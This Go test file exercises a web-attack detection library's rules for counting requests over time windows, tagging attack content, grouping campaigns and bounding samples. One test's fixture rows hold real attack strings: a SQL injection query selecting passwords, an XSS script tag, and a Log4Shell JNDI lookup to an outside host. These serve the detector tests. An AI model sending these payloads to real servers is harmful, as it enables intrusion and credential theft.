package detect_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/tracewall/tracewall/shared/detect"
	"github.com/tracewall/tracewall/shared/threat"
	"github.com/tracewall/tracewall/shared/webattack"
)

// slow is a rule whose windows of an hour add up over four.
func slow() detect.Rule {
	r := addressRule()
	r.Window, r.Over, r.Threshold = time.Hour, 4*time.Hour, 10
	return r
}

func hourly(counts ...int) []map[string]string {
	var rows []map[string]string
	for hour, n := range counts {
		if n > 0 {
			rows = append(rows, row("ip", "192.0.2.7", "cnt", cnt(n), "w", cnt(hour*3600)))
		}
	}
	return rows
}

func TestWindowsAddUpOverALongerTime(t *testing.T) {
	for _, c := range []struct {
		name     string
		counts   []int
		from, to int // hours
		count    int64
		windows  int
	}{
		{"five an hour for three hours", []int{5, 5, 5}, 0, 3, 15, 3},
		{"ten are not more than ten", []int{5, 5}, 0, 2, 0, 0},
		{"four hours hold together", []int{5, 0, 0, 6}, 0, 4, 11, 2},
		{"five do not", []int{5, 0, 0, 0, 6}, 0, 5, 0, 0},
		{"windows before the span count towards one in it", []int{5, 5, 5}, 2, 3, 15, 3},
		{"the last window must lie in the span", []int{11, 0, 0, 0, 0, 1}, 4, 6, 0, 0},
		{"what lies too far before the span does not count", []int{9, 0, 0, 0, 5}, 4, 5, 0, 0},
		{"no window counts twice", []int{11, 1, 1, 1, 11}, 0, 5, 25, 5},
	} {
		ds, _ := slow().Detections(hourly(c.counts...), detect.Span{From: at(int64(c.from) * 3600), To: at(int64(c.to) * 3600)})
		switch {
		case c.count == 0 && len(ds) > 0:
			t.Errorf("%s: %d in %d windows, want nothing", c.name, ds[0].Count, ds[0].Windows)
		case c.count > 0 && (len(ds) != 1 || ds[0].Count != c.count || ds[0].Windows != c.windows):
			t.Errorf("%s: %+v, want %d in %d windows", c.name, ds, c.count, c.windows)
		}
	}
}

// However the hours are cut into spans, somebody is found if and only if one pass finds him.
func TestSlowOnesAreFoundHoweverTheTimeIsCut(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		counts := rapid.SliceOfN(rapid.IntRange(0, 8), 6, 30).Draw(t, "an hour's counts")
		rows := hourly(counts...)
		whole, _ := slow().Detections(rows, detect.Span{From: at(0), To: at(int64(len(counts)) * 3600)})
		found := 0
		for from := 0; from < len(counts); {
			to := min(len(counts), from+rapid.IntRange(1, 9).Draw(t, "hours"))
			ds, _ := slow().Detections(rows, detect.Span{From: at(int64(from) * 3600), To: at(int64(to) * 3600)})
			found += len(ds)
			from = to
		}
		if (found > 0) != (len(whole) > 0) {
			t.Fatalf("%d in parts, %d as a whole", found, len(whole))
		}
	})
}

func TestTheReachOfARuleIsItsMarginAndTheWindowsThatAddUp(t *testing.T) {
	r := slow()
	r.Margin = 10 * time.Minute
	if got := r.Reach(); got != 3*time.Hour+10*time.Minute {
		t.Errorf("reach = %s", got)
	}
	if got := addressRule().Reach(); got != 0 {
		t.Errorf("reach = %s", got)
	}
}

func TestRowsCountOnlyForWhatTheirTextShows(t *testing.T) {
	r := addressRule()
	r.Threshold = 2
	r.Content = &detect.Content{Columns: []string{"path", "agent"}, Classes: []webattack.Class{webattack.SQLInjection, webattack.Exploit}}
	rows := []map[string]string{
		row("ip", "192.0.2.7", "cnt", "3", "w", "1200", "path", "/item?id=1%27%20union%20select%20password%20from%20users--", "agent", "x"),
		row("ip", "192.0.2.7", "cnt", "5", "w", "1200", "path", "/item?id=1", "agent", "x"),
		row("ip", "192.0.2.8", "cnt", "9", "w", "1200", "path", "/?q=<script>alert(1)</script>", "agent", "x"),
		row("ip", "192.0.2.9", "cnt", "3", "w", "1200", "path", "/", "agent", "${jndi:ldap://203.0.113.9/a}"),
		row("ip", "999.1.1.1", "cnt", "3", "w", "1200", "path", "/", "agent", "x"),
	}
	ds, rejected := r.Detections(rows, whole)
	var got []string
	for _, d := range ds {
		got = append(got, fmt.Sprint(d.Indicator, d.Count, d.Tags))
	}
	want := []string{"192.0.2.7 3 [sql-injection]", "192.0.2.9 3 [CVE-2021-44228 known-exploit]"}
	if diff := cmp.Diff(want, got); diff != "" || len(rejected) != 0 {
		t.Errorf("%s rejected %v", diff, rejected)
	}
}

func TestCampaignsAreWhatManyAddressesShare(t *testing.T) {
	r := addressRule()
	r.Threshold, r.Subject = 100, detect.Subject{Campaign: "path", Column: "path"}
	r.Columns.Clients, r.Columns.Addresses, r.Columns.Sample = "clients", "ips", "line"
	rows := []map[string]string{
		row("path", "/works", "cnt", "150", "w", "1200", "clients", "140", "ips", `["192.0.2.1","192.0.2.2","bad"]`, "line", "b"),
		row("path", "/works", "cnt", "160", "w", "1320", "clients", "155", "ips", `["192.0.2.3"]`, "line", "a"),
		row("path", "/", "cnt", "100", "w", "1200", "clients", "100"),
		row("path", "", "cnt", "300", "w", "1200", "clients", "100"),
	}
	cs, rejected := r.Campaigns(rows, whole)
	if len(cs) != 1 || cs[0].Kind != "path" || cs[0].Value != "/works" || cs[0].Clients != 155 || cs[0].Count != 310 || cs[0].Windows != 2 || len(cs[0].Evidence) != 3 ||
		cs[0].Samples[0] != "a" || cs[0].Indicator.Kind() != 0 {
		t.Errorf("campaigns = %+v", cs)
	}
	if len(rejected) != 2 {
		t.Errorf("rejected = %v", rejected)
	}
	if ds, _ := r.Detections(rows, whole); ds != nil {
		t.Errorf("a campaign names addresses: %v", ds)
	}
	if cs, _ := addressRule().Campaigns(rows, whole); cs != nil {
		t.Errorf("a rule about addresses finds campaigns: %v", cs)
	}
}

func TestSamplesAndAccountsAreBoundedAndDoNotDependOnTheOrderOfRows(t *testing.T) {
	r := addressRule()
	r.Columns.Sample, r.Columns.Accounts, r.Columns.Also, r.Columns.Successes = "line", "who", "paths", "ok"
	var rows []map[string]string
	for i := range 9 {
		rows = append(rows, row("ip", "2001:db8::"+cnt(i), "cnt", "9", "w", "1200", "line", fmt.Sprintf("line %d \xff\x1b[31m%01000d", i, 1), "who", fmt.Sprintf(`["u%d",null," bad"]`, i), "paths", cnt(i), "ok", "1"))
	}
	want, _ := r.Detections(rows, whole)
	rapid.Check(t, func(t *rapid.T) {
		got, _ := r.Detections(rapid.Permutation(rows).Draw(t, "rows"), whole)
		if diff := cmp.Diff(want, got, cmp.Comparer(func(a, b threat.Indicator) bool { return a == b })); diff != "" {
			t.Fatal(diff)
		}
	})
	d := want[0]
	if len(d.Samples) != threat.MaxSamples || len(d.Samples[0]) > threat.MaxSample || len(d.Accounts) != 9 || d.Also != 8 || d.Successes != 9 {
		t.Errorf("detection = %+v", d)
	}
}
